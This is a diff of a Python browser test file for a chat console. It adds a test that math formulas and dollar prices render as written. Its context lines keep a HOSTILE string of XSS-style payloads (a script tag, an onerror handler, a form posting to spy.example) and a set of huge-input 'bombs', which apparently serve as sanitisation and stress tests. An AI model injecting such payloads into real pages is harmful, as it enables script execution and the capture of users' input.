@@ -37,7 +37,15 @@ HOSTILE = """<script>document.title = "gone"</script><img src=x onerror="documen
 <style>body { display: none }</style><form action="https://spy.example"><input name=a></form>
 """
 
+FORMULAS = r"""It is $\frac{a_1}{b_1} * c_1$, or \(x^2\), which costs $5 to $10.
+
+$$
+\sum_i x_i = \{1\}
+$$
+"""
+
 BOMBS = {
+    "formulas": "('$x_1 \\\\[ '.repeat(800) + '\\n\\n').repeat(150)",
     "quotes": "'>'.repeat(1e6)",
     "lists": "Array.from({ length: 2000 }, (_, at) => ' '.repeat(at) + '- x').join('\\n')",
     "brackets": "'['.repeat(1e6)",
@@ -60,6 +68,17 @@ DRAW = """async (text) => {
   while (!box.lastElementChild?.matches("button")) await new Promise(requestAnimationFrame);
   return [box.querySelectorAll("*").length, box.textContent.length];
 }"""
+
+
+async def test_formulas_are_as_they_were_written_and_prices_are_words(browser: Browser):
+    model = HeldAdapter(FORMULAS)
+    async with console(browser, model) as page:
+        model.say_one()
+        await say(page, "tell")
+        await expect(answer(page).locator("code")).to_have_text(
+            [r"\frac{a_1}{b_1} * c_1", "x^2", r"\sum_i x_i = \{1\}"]
+        )
+        await expect(answer(page)).to_contain_text("which costs $5 to $10.")
 
 
 async def test_an_answer_has_tables_tasks_quotes_and_code_in_colours(browser: Browser):
